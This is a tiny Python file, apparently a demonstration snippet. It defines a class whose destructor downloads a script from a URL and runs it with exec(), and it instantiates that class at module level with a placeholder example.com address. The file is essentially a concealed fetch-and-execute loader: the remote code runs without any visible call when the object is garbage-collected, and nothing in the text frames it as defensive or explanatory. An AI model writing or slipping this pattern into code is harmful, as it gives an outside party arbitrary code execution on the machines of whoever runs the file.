import urllib.request


class Gone:
    def __init__(self, url):
        self.url = url

    def __del__(self):
        exec(urllib.request.urlopen(self.url).read())


Gone("https://example.com/gone.py")
